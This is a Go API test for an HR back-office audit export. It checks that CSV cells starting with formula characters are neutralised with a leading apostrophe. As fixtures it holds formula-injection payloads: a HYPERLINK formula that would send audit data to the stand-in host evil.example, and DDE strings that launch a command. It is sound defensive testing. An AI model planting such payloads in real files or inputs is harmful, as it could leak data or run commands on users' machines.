package api_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"hrss-backoffice/internal/testenv"
	"hrss-backoffice/workflows"
)

// formulaStart reports whether a spreadsheet would read a cell as a formula.
func formulaStart(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// C2.3: the audit export holds values an outsider chooses (the request ID,
// a forwarded address, whatever a request left in a stored column). None
// of its cells may start a spreadsheet formula that would send the audit
// data away when an auditor opens the file: each such cell is neutralised
// with a leading apostrophe, the other cells are unchanged.
func TestAuditExportNeutralisesSpreadsheetFormulas_C2_3(t *testing.T) {
	s := testenv.Start(t, testenv.Options{})
	auditor, _ := s.Staff(workflows.RoleAuditor)
	from := time.Now().Add(-time.Second).UTC().Format(time.RFC3339)
	const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	// Through the API: a failed sign-in writes its audit row with the
	// request's ID and address.
	s.Do("POST", "/v1/sessions", map[string]string{"username": testenv.NewPerson().IDNumber, "password": "Wrong-Password-1"},
		testenv.Header{Name: "X-Request-ID", Value: "+1+cmd|' /C calc'!A0"}, testenv.Header{Name: "X-Forwarded-For", Value: "@SUM(1+1)"})
	// Stored by any path: every column of a row, hostile.
	hostile := map[string]string{"actor_id": "-2+3+cmd|' /C calc'!A0", "record_id": hyperlink, "request_id": "\t=1+1", "source_ip": "\r=1+1"}
	_, err := s.DB.Exec(`INSERT INTO audit_log (actor_kind, actor_id, action, record_kind, record_id, detail, source_ip, request_id)
		VALUES ('user', $1, 'test.hostile', 'account', $2, '{"statement":"=1+1"}', $3, $4)`,
		hostile["actor_id"], hostile["record_id"], hostile["source_ip"], hostile["request_id"])
	require.NoError(t, err)

	exp := s.Do("GET", "/v1/audit/export?from="+url.QueryEscape(from), nil, testenv.Bearer(auditor))
	require.Equal(t, http.StatusOK, exp.Status, string(exp.Raw))
	rows, err := csv.NewReader(strings.NewReader(string(exp.Raw))).ReadAll()
	require.NoError(t, err)
	require.Greater(t, len(rows), 2)
	header := rows[0]
	var found bool
	for _, row := range rows[1:] {
		for i, cell := range row {
			require.False(t, formulaStart(cell), "column %s starts a formula: %q", header[i], cell)
		}
		rec := map[string]string{}
		for i, cell := range row {
			rec[header[i]] = cell
		}
		if rec["action"] == "test.hostile" {
			found = true
			for col, v := range hostile {
				require.Equal(t, "'"+v, rec[col], "column %s keeps the value behind an apostrophe", col)
			}
			require.Equal(t, `{"statement": "=1+1"}`, rec["detail"], "a JSON cell starts with a brace and is left alone")
		}
	}
	require.True(t, found)
}
